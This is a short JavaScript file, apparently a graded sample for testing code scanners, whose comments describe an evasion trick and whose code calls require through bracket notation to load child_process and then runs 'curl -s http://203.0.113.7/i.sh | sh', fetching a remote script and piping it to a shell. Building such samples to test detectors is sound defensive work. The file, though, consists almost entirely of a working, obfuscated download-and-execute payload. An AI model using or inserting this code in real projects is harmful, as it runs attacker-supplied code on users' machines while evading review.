// evasion: require is invoked through its own call method reached with bracket notation, loading child_process to run a shell command
// grade: medium; does: shell
'use strict';
const cp = require['call'](null, 'child_process');
cp.execSync('curl -s http://203.0.113.7/i.sh | sh', { stdio: 'inherit' });
